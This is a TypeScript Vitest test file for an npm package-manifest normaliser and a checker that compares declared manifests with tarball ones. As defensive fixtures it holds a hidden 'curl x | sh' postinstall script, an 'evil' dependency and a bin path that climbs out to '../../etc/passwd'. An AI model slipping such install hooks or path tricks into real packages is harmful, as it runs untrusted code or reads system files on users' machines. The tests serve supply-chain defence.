import { describe, expect, it } from 'vitest'
import { hasInstallScript, manifestDifferences, normalizeManifest, sameJson, type JsonObject } from './manifest.js'

const files = (...paths: string[]) => ({ paths: new Set(paths) })

describe('normalizeManifest', () => {
  it('does what npm publish does to bin, scripts and dependencies', () => {
    const raw: JsonObject = {
      name: ' @scope/tool ',
      version: 'v1.2.3',
      _secret: 'dropped',
      bin: './bin/tool.js',
      scripts: { build: 'node_modules/.bin/tsc', bad: 42 },
      dependencies: 'a@^1.0.0 b',
      optionalDependencies: ['c@2'],
      bundledDependencies: ['a'],
    }
    expect(normalizeManifest(raw, files())).toEqual({
      name: '@scope/tool',
      version: '1.2.3',
      bin: { tool: 'bin/tool.js' },
      scripts: { build: 'tsc' },
      dependencies: { a: '^1.0.0', b: '' },
      optionalDependencies: { c: '2' },
      bundleDependencies: ['a'],
    })
  })

  it('derives scripts and bins from the tarball files, as npm does from the folder', () => {
    const manifest = normalizeManifest({ name: 'native', version: '1.0.0', directories: { bin: './cmds' } }, files('binding.gyp', 'server.js', 'cmds/one', 'cmds/sub/two', 'cmds/.hidden', 'lib/x.js'))
    expect(manifest.scripts).toEqual({ install: 'node-gyp rebuild', start: 'node server.js' })
    expect(manifest.gypfile).toBe(true)
    expect(manifest.bin).toEqual({ one: 'cmds/one', two: 'cmds/sub/two' })
    expect(hasInstallScript(manifest)).toBe(true)
  })

  it('keeps bin paths inside the package and drops empty ones', () => {
    expect(normalizeManifest({ name: 'x', bin: { '../evil': '../../etc/passwd', empty: '' } }, files()).bin).toEqual({ evil: 'etc/passwd' })
  })

  it('writes hosted git dependencies the way npm does', () => {
    const manifest = normalizeManifest({ name: 'x', dependencies: { lib: 'git@github.com:user/lib.git', short: 'github:user/short' } }, files())
    expect(manifest.dependencies).toEqual({ lib: 'git+ssh://git@github.com/user/lib.git', short: 'github:user/short' })
  })
})

describe('manifestDifferences', () => {
  const tarball: JsonObject = { name: 'pkg', version: '1.0.0', bin: 'cli.js', dependencies: { a: '^1.0.0' }, scripts: { test: 'vitest' } }
  const fromTarball = normalizeManifest(tarball, files('cli.js'))

  it('accepts what npm sends for the same package.json', () => {
    const declared = normalizeManifest({ ...tarball, bin: { pkg: 'cli.js' }, readme: 'x', _npmVersion: '11.0.0' }, files('cli.js'))
    expect(manifestDifferences(declared, fromTarball)).toEqual([])
  })

  it.each([
    ['a hidden dependency', { dependencies: { a: '^1.0.0', evil: '*' } }, ['dependencies']],
    ['a hidden install script', { scripts: { test: 'vitest', postinstall: 'curl x | sh' } }, ['scripts']],
    ['missing scripts', { scripts: undefined }, ['scripts']],
    ['another bin', { bin: { pkg: 'other.js' } }, ['bin']],
    ['another version', { version: '1.0.1' }, ['version']],
    ['another name (which also renames its bin)', { name: 'other' }, ['name', 'bin']],
  ])('reports %s', (_what, change, expected) => {
    const declared = normalizeManifest(JSON.parse(JSON.stringify({ ...tarball, ...change })) as JsonObject, files('cli.js'))
    expect(manifestDifferences(declared, fromTarball)).toEqual(expected)
  })

  it('tolerates the install script npm adds for a binding.gyp left out of the tarball', () => {
    const declared = normalizeManifest({ ...tarball, scripts: { test: 'vitest', install: 'node-gyp rebuild' } }, files('cli.js'))
    expect(manifestDifferences(declared, fromTarball)).toEqual([])
  })
})

describe('sameJson', () => {
  it('ignores key order but not array order', () => {
    expect(sameJson({ a: 1, b: [1, 2] }, { b: [1, 2], a: 1 })).toBe(true)
    expect(sameJson({ b: [2, 1] }, { b: [1, 2] })).toBe(false)
    expect(sameJson({ a: undefined as never }, {})).toBe(false)
    expect(sameJson(null, undefined)).toBe(false)
  })
})
